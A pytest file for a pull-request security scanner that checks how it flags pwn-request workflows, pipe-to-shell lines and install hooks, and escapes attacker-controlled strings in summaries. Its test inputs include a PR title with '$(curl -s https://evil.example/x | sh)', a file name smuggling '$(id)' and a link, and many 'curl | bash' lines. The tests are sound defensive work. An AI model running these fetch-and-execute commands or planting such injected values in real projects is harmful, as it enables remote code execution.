"""The worker's findings path: contents fetched for changed workflows, annotations, verdict, summary, feedback."""
from __future__ import annotations

import re

import cmarkgfm
import pytest
from cmarkgfm.cmark import Options

from app import jobs
from app.publisher import GitHubPublisher
from app.scoring_job import Connection, JobContext
from app.worker import Worker
from prguard.features.extraction import sensitive_files
from prguard.store.sqlite import SQLiteStore
from tests.support import workflows as W
from tests.support.pr_content import added, changed, hunk, new_file_patch
from tests.support.pull_requests import pull_request
from tests.support.worker_fakes import FakeBundle, FakeInstallationClient

REPO, NUMBER, HEAD, BASE = "octo/widgets", 7, "b" * 40, "c" * 40
INSTALLATION = 42
PREVIEW = ".github/workflows/preview.yml"


def pull(files, title="Fix the widget", additions=10):
    return pull_request(repo=REPO, number=NUMBER, head_sha=HEAD, base_sha=BASE, title=title, additions=additions), files


@pytest.fixture
def store(settings):
    store = SQLiteStore(settings.sqlite_path)
    yield store
    store.close()


def run_job(store, settings, doc, files, contents=None, model=None, severity=None):
    """One scoring job through a worker with the fake installation client; returns (client, stored run)."""
    client = FakeInstallationClient(pulls={(REPO, NUMBER): doc}, files={(REPO, NUMBER): files},
                                    contents=contents or {})
    if severity:
        settings = settings.replace(finding_severity=severity)
    connection = Connection(client, GitHubPublisher(store, client))
    context = JobContext(store=store, settings=settings, current_model=lambda: model,
                         connect=lambda installation_id: connection, sensitive_files=sensitive_files)
    jobs.enqueue(store, jobs.ScorePullRequest(REPO, NUMBER, HEAD, INSTALLATION, "d-1"))
    worker = Worker(store, context, settings, "w1", backoff_base=0.0, backoff_cap=0.0)
    assert worker.run_once()
    assert store.jobs.list("dead") == [], store.jobs.list("dead")
    (run,) = client.runs.values()
    return client, run


def final_output(run):
    return next(w for w in run["writes"] if w.get("status") == "completed")["output"]


def test_a_pwn_request_made_in_an_existing_workflow_is_unusual_with_a_failure_on_the_ref_line(store, settings):
    base_text = W.PWN_REQUEST.replace("pull_request_target:", "pull_request:").replace(
        "        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n", "")
    patch = hunk(1, ["name: PR preview", "on:"], ["  pull_request:"], ["  pull_request_target:"],
                 ["    types: [opened, synchronize]"]) + "\n" + hunk(
        9, ["      - uses: actions/checkout@v4"],
        added=["        with:", "          ref: ${{ github.event.pull_request.head.sha }}"],
        context_after=["      - run: npm ci && npm run build"])
    doc, files = pull([changed(PREVIEW, patch)])
    contents = {(REPO, BASE): {PREVIEW: base_text, ".github/workflows/ci.yml": W.CI},
                (REPO, HEAD): {PREVIEW: W.PWN_REQUEST}}
    client, run = run_job(store, settings, doc, files, contents, model=FakeBundle())
    assert ("get_file_text", (PREVIEW, HEAD)) in client.calls and ("get_file_text", (PREVIEW, BASE)) in client.calls
    assert ("get_file_text", (".github/workflows/ci.yml", BASE)) in client.calls  # the repository's habits
    output = final_output(run)
    assert run["conclusion"] == "neutral"
    assert output["title"].startswith("Unusual: makes a pull_request_target workflow run the PR's code (+")
    failures = [a for a in run["annotations"] if a["annotation_level"] == "failure"]
    assert [(a["path"], a["start_line"]) for a in failures if "pwn-request" in a["title"]] == [(PREVIEW, 11)]
    summary = output["summary"]
    assert summary.index("**Findings") < summary.index("**Top reasons**")
    score = store.checks.get_score(REPO, HEAD)
    assert score["unusual"] and not score["anomalous"]  # the model alone found it typical
    assert "prguard/pwn-request" in [f["rule_id"] for f in score["findings"]]


def test_findings_in_the_summary_are_ordered_by_severity_and_escaped(store, settings):
    readme = hunk(3, added=["curl -LsSf https://astral.sh/uv/install.sh | sh"])
    evil_name = "docs/$(id)[click](https://evil.example)@octo.md"
    doc, files = pull([changed(".github/workflows/lint.yml", None, status="added"),
                       changed("README.md", readme), added("scripts/setup.sh", "curl -fsSL https://get.example.sh | bash\n"),
                       added(evil_name, "text\n")],
                      title="Update $(curl -s https://evil.example/x | sh)")
    client, run = run_job(store, settings, doc, files, {(REPO, HEAD): {".github/workflows/lint.yml": W.LINT}},
                          model=FakeBundle())
    summary = final_output(run)["summary"]
    section = summary[summary.index("**Findings"):summary.index("Model version")]
    severities = [line.split("**")[1] for line in section.split("\n") if line.startswith("- **")]
    assert severities == sorted(severities, key=["high", "medium", "low"].index) and severities[0] == "high"
    # Rendered as GitHub does (cmark-gfm): the attacker's strings open no link, mention or HTML.
    html = cmarkgfm.github_flavored_markdown_to_html(summary, options=Options.CMARK_OPT_UNSAFE)
    assert "<a " not in html and "<img" not in html and "evil.example" in html
    formatting = {"p", "strong", "code", "ul", "li", "em", "table", "thead", "tbody", "tr", "th", "td", "hr"}
    assert set(re.findall(r"<(\w+)", html)) <= formatting
    readme_notes = [a for a in run["annotations"] if a["path"] == "README.md" and "pipe-to-shell" in a["title"]]
    assert [a["annotation_level"] for a in readme_notes] == ["notice"] and readme_notes[0]["start_line"] == 3


def test_a_medium_finding_alone_leaves_the_verdict_typical_unless_the_severity_setting_is_lowered(store, settings):
    manifest = hunk(4, ["  \"scripts\": {"], added=["    \"postinstall\": \"node scripts/prepare.js\","],
                    context_after=["    \"test\": \"jest\""])
    doc, files = pull([changed("package.json", manifest)])
    _, run = run_job(store, settings, doc, files, model=FakeBundle())
    assert run["conclusion"] == "success"
    assert [(a["path"], a["start_line"], a["annotation_level"]) for a in run["annotations"]
            if "install-hook" in a.get("title", "")] == [("package.json", 5, "warning")]
    store.close()
    other = SQLiteStore(settings.data_dir / "other.sqlite3")
    try:
        _, run = run_job(other, settings, doc, files, model=FakeBundle(), severity="medium")
        assert run["conclusion"] == "neutral" and final_output(run)["title"].startswith("Unusual: ")
    finally:
        other.close()


def test_without_a_model_a_high_finding_still_makes_the_run_unusual(store, settings):
    doc, files = pull([added(PREVIEW, W.PWN_REQUEST)])
    _, run = run_job(store, settings, doc, files, {(REPO, HEAD): {PREVIEW: W.PWN_REQUEST}}, model=None)
    output = final_output(run)
    assert run["conclusion"] == "neutral"
    assert output["title"].startswith("Unusual: adds a pull_request_target workflow that runs the PR's code")
    assert [a["identifier"] for a in run["actions"]] == ["mark_expected"]


def test_more_than_fifty_annotations_go_out_fifty_per_request(store, settings):
    lines = [f"curl -fsSL https://get{i}.example.sh | bash" for i in range(120)]
    doc, files = pull([changed("scripts/install.sh", new_file_patch("\n".join(lines)), status="added")])
    client, run = run_job(store, settings, doc, files, model=FakeBundle())
    sizes = [len(u.get("output", {}).get("annotations", [])) for u in run["writes"] if "output" in u]
    assert max(sizes) <= 50 and sum(sizes) == len(run["annotations"]) >= 120
    assert sorted(a["start_line"] for a in run["annotations"] if a["path"] == "scripts/install.sh"
                  and a["annotation_level"] == "failure") == list(range(1, 121))


def test_only_workflow_and_action_files_are_fetched(store, settings):
    doc, files = pull([changed("src/app.py", hunk(1, added=["print('hi')"])), changed("README.md", None)])
    client, run = run_job(store, settings, doc, files, model=FakeBundle())
    assert client.count("get_file_text") == 0 and client.count("list_directory") == 0
    assert run["conclusion"] == "success"


def test_mark_as_expected_records_the_accepted_findings(store, settings):
    settings = settings.replace(github_app_id="31337")
    doc, files = pull([added(PREVIEW, W.PWN_REQUEST)])
    client, run = run_job(store, settings, doc, files, {(REPO, HEAD): {PREVIEW: W.PWN_REQUEST}}, model=FakeBundle())
    keys = [f["key"] for f in store.checks.get_score(REPO, HEAD)["findings"]]
    assert any(key.startswith("prguard/pwn-request:") for key in keys)
    client.roles[(REPO, "octo-lead")] = "maintain"
    connection = Connection(client, GitHubPublisher(store, client))
    context = JobContext(store=store, settings=settings, current_model=FakeBundle,
                         connect=lambda installation_id: connection, sensitive_files=sensitive_files)
    jobs.enqueue(store, jobs.MarkExpected(REPO, NUMBER, HEAD, INSTALLATION, run["id"], "octo-lead", "d-2",
                                          app_id=31337, external_id=f"prguard:{REPO}:{HEAD}"))
    assert Worker(store, context, settings, "w1").run_once()
    summary = client.runs[run["id"]]["updates"][-1]["output"]["summary"]
    assert "Accepted findings" in summary and all(key[:40] in summary for key in keys)
    assert client.runs[run["id"]]["conclusion"] == "success"
